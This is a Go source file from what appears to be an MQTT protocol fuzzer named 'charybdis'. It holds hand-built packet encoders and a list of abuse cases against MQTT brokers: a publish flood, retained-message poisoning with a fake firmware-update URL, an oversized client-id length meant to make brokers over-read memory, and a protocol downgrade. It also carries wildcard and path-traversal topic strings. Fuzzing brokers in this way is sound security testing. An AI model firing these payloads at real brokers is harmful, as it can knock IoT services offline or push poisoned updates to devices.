package protocol

import (
	"bytes"
	"encoding/binary"
	"strconv"
	"time"

	"bytemomo/charybdis/internal/domain"
)

// MQTT session states.
const (
	mqttDisconnected State = "disconnected"
	mqttConnected    State = "connected"
	mqttSubscribed   State = "subscribed"
)

const mqttKeepAliveSeconds = 30

// MQTTMachine returns the state machine for MQTT brokers. Packets are
// crafted by hand so the fuzzer controls every byte; no client library
// sits between the engine and the wire.
func MQTTMachine() *Definition {
	return &Definition{
		Protocol: domain.ProtocolMQTT,
		Initial:  mqttDisconnected,
		States:   []State{mqttDisconnected, mqttConnected, mqttSubscribed},
		Legal: []Transition{
			{From: mqttDisconnected, Event: "connect", To: mqttConnected},
			{From: mqttConnected, Event: "subscribe", To: mqttSubscribed},
			{From: mqttConnected, Event: "publish", To: mqttConnected},
			{From: mqttSubscribed, Event: "publish", To: mqttSubscribed},
			{From: mqttConnected, Event: "disconnect", To: mqttDisconnected},
			{From: mqttSubscribed, Event: "disconnect", To: mqttDisconnected},
		},
		Events: map[string]EventSpec{
			"connect": {
				Name:   "connect",
				Encode: encodeMQTTConnect,
				Expect: domain.RespAck,
				// offsets into the default-parameter encoding
				Fields: []FieldSpec{
					{Name: "connect-flags", Offset: 9, Size: 1},
					{Name: "keepalive", Offset: 10, Size: 2},
					{Name: "client-id-len", Offset: 13, Size: 2},
				},
			},
			"subscribe": {
				Name:   "subscribe",
				Encode: encodeMQTTSubscribe,
				Expect: domain.RespAck,
				Fields: []FieldSpec{
					{Name: "packet-id", Offset: 2, Size: 2},
					{Name: "topic-len", Offset: 5, Size: 2},
				},
			},
			"publish": {
				Name:   "publish",
				Encode: encodeMQTTPublish,
				Expect: domain.RespAny,
				Fields: []FieldSpec{
					{Name: "topic-len", Offset: 2, Size: 2},
				},
			},
			"publish-retained": {
				Name:   "publish-retained",
				Encode: encodeMQTTPublishRetained,
				Expect: domain.RespAny,
			},
			"connect-oversized": {
				Name:   "connect-oversized",
				Encode: encodeMQTTConnectOversized,
				Expect: domain.RespError,
			},
			"connect-legacy": {
				Name:   "connect-legacy",
				Encode: encodeMQTTConnectLegacy,
				Expect: domain.RespAck,
			},
			"disconnect": {
				Name:   "disconnect",
				Encode: func(map[string]string) ([]byte, error) { return []byte{0xE0, 0x00}, nil },
				Expect: domain.RespSilence,
			},
		},
		Abuses: []AbuseSpec{
			{
				Name:     "publish-flood",
				Category: domain.AttackFlood,
				From:     mqttConnected,
				Events:   []string{"publish"},
				Params:   map[string]string{"topic": "devices/+/cmd", "payload": "charybdis-flood"},
				Rate:     &domain.RateSpec{Count: 512, Interval: 2 * time.Millisecond},
			},
			{
				Name:     "retained-poison",
				Category: domain.AttackInjection,
				From:     mqttConnected,
				Events:   []string{"publish-retained"},
				Params:   map[string]string{"topic": "devices/status", "payload": `{"fw":"0.0.0","ota":"http://0.0.0.0/fw.bin"}`},
			},
			{
				Name:     "oversized-client-id",
				Category: domain.AttackInjection,
				From:     mqttDisconnected,
				Events:   []string{"connect-oversized"},
			},
			{
				Name:     "protocol-downgrade",
				Category: domain.AttackDowngrade,
				From:     mqttDisconnected,
				Events:   []string{"connect-legacy"},
			},
		},
		Dictionary: [][]byte{
			[]byte("#"),
			[]byte("+/+/+"),
			[]byte("$SYS/#"),
			[]byte("devices/../../admin"),
			{0xC0, 0x00},             // bare PINGREQ
			{0x10, 0x00},             // CONNECT with zero remaining length
			{0x30, 0x02, 0x00, 0x00}, // PUBLISH with empty topic
		},
	}
}

// buildMQTTPacket assembles fixed header + variable header + payload.
func buildMQTTPacket(packetType byte, vh, payload []byte) []byte {
	remaining := len(vh) + len(payload)
	buf := bytes.NewBuffer(nil)
	buf.WriteByte(packetType)
	buf.Write(encodeMQTTVarInt(remaining))
	buf.Write(vh)
	buf.Write(payload)
	return buf.Bytes()
}

func encodeMQTTVarInt(v int) []byte {
	var out []byte
	for {
		b := byte(v % 128)
		v /= 128
		if v > 0 {
			b |= 0x80
		}
		out = append(out, b)
		if v == 0 {
			return out
		}
	}
}

func encodeMQTTString(s string) []byte {
	out := make([]byte, 2+len(s))
	binary.BigEndian.PutUint16(out, uint16(len(s)))
	copy(out[2:], s)
	return out
}

func mqttConnectVH(level byte, flags byte) []byte {
	vh := bytes.NewBuffer(nil)
	vh.Write(encodeMQTTString("MQTT"))
	vh.WriteByte(level)
	vh.WriteByte(flags)
	binary.Write(vh, binary.BigEndian, uint16(mqttKeepAliveSeconds))
	if level >= 5 {
		vh.WriteByte(0x00) // properties length
	}
	return vh.Bytes()
}

func encodeMQTTConnect(params map[string]string) ([]byte, error) {
	clientID := param(params, "client_id", "charybdis")
	vh := mqttConnectVH(5, 0b00000010) // clean start
	return buildMQTTPacket(0x10, vh, encodeMQTTString(clientID)), nil
}

// encodeMQTTConnectLegacy downgrades the handshake to MQTT 3.1.1.
func encodeMQTTConnectLegacy(params map[string]string) ([]byte, error) {
	clientID := param(params, "client_id", "charybdis")
	vh := mqttConnectVH(4, 0b00000010)
	return buildMQTTPacket(0x10, vh, encodeMQTTString(clientID)), nil
}

// encodeMQTTConnectOversized declares a client id longer than the
// payload actually carries. Brokers with naive length handling over-read.
func encodeMQTTConnectOversized(params map[string]string) ([]byte, error) {
	vh := mqttConnectVH(5, 0b00000010)
	payload := make([]byte, 2+64)
	binary.BigEndian.PutUint16(payload, 0xFFFF)
	for i := 2; i < len(payload); i++ {
		payload[i] = 'A'
	}
	return buildMQTTPacket(0x10, vh, payload), nil
}

func encodeMQTTSubscribe(params map[string]string) ([]byte, error) {
	topic := param(params, "topic", "devices/#")
	pid, _ := strconv.Atoi(param(params, "packet_id", "2"))
	vh := bytes.NewBuffer(nil)
	binary.Write(vh, binary.BigEndian, uint16(pid))
	vh.WriteByte(0x00) // properties length
	payload := append(encodeMQTTString(topic), 0x00)
	return buildMQTTPacket(0x82, vh.Bytes(), payload), nil
}

func encodeMQTTPublish(params map[string]string) ([]byte, error) {
	topic := param(params, "topic", "devices/probe")
	payload := param(params, "payload", "charybdis")
	return buildMQTTPacket(0x30, encodeMQTTString(topic), []byte(payload)), nil
}

// encodeMQTTPublishRetained sets the retain bit so the poisoned value
// outlives the attacking connection.
func encodeMQTTPublishRetained(params map[string]string) ([]byte, error) {
	topic := param(params, "topic", "devices/status")
	payload := param(params, "payload", "poisoned")
	return buildMQTTPacket(0x31, encodeMQTTString(topic), []byte(payload)), nil
}
